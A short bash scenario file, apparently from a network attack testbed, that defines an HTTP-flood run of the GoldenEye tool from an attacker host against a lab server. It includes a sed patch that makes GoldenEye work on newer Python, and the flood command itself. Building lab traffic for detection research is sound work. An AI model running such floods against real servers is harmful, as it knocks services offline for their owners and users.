# shellcheck shell=bash
# about: requests that no cache answers, from one host (goldeneye)
# type: attack
# kind: http_flood
# target: server
# source: attacker
# tools: goldeneye
# within_ms: 3000
play() {
	# Debian's divides by / where it wants an index, which Python has refused since 3.10.
	sed -E 's,len\((\w+)\)/2,len(\1)//2,' "$(command -v goldeneye)" >"$WORK/goldeneye"
	on attacker timeout -s INT -k 1 10 /usr/bin/python3 "$WORK/goldeneye" "http://$SERVER_IP/" -w 4 -s 20
}
